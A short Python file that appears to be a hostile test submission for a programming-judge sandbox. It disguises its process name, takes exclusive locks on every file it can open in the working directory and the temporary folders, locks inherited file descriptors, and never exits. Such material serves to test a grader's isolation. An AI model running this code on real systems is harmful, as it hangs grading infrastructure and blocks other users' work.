# Takes file locks on everything that it can open, and never lets go.
# solves: tally
import fcntl
import time

import ctypes
import posix

ctypes.CDLL(None).prctl(15, b"@PROCESS@", 0, 0, 0)


def tally(n):
    for folder in (".", "/tmp", "/dev/shm", "/var/tmp", "@FOLDER@"):
        try:
            for name in posix.listdir(folder):
                fcntl.flock(posix.open(folder + "/" + name, posix.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            continue
    for number in range(3, 64):
        try:
            fcntl.flock(number, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            continue
    while True:
        time.sleep(1000)
